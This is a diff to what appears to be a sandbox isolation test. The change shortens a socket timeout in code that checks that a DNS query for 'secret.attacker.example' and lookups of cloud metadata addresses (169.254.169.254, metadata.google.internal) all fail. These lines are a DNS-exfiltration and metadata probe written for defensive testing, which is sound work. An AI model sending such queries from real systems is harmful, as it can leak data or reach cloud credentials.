@@ -88,7 +88,7 @@ all_must_raise(**{a: lambda a=a: send(a) for a in targets}, ping=lambda: send("1
         code="""
 question = bytes([7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + b"\\6secret\\10attacker\\7example\\0" + bytes([0, 1, 0, 1])
 def ask(server):
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect((server, 53)); s.send(question)
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.connect((server, 53)); s.send(question)
     return s.recv(512)
 servers = ("127.0.0.1", "127.0.0.53", "169.254.169.254", "1.1.1.1", "10.0.0.1")
 all_must_raise(**{s: lambda s=s: ask(s) for s in servers}, name=lambda: socket.getaddrinfo("secret.attacker.example", 80), meta=lambda: socket.getaddrinfo("metadata.google.internal", 80))""",
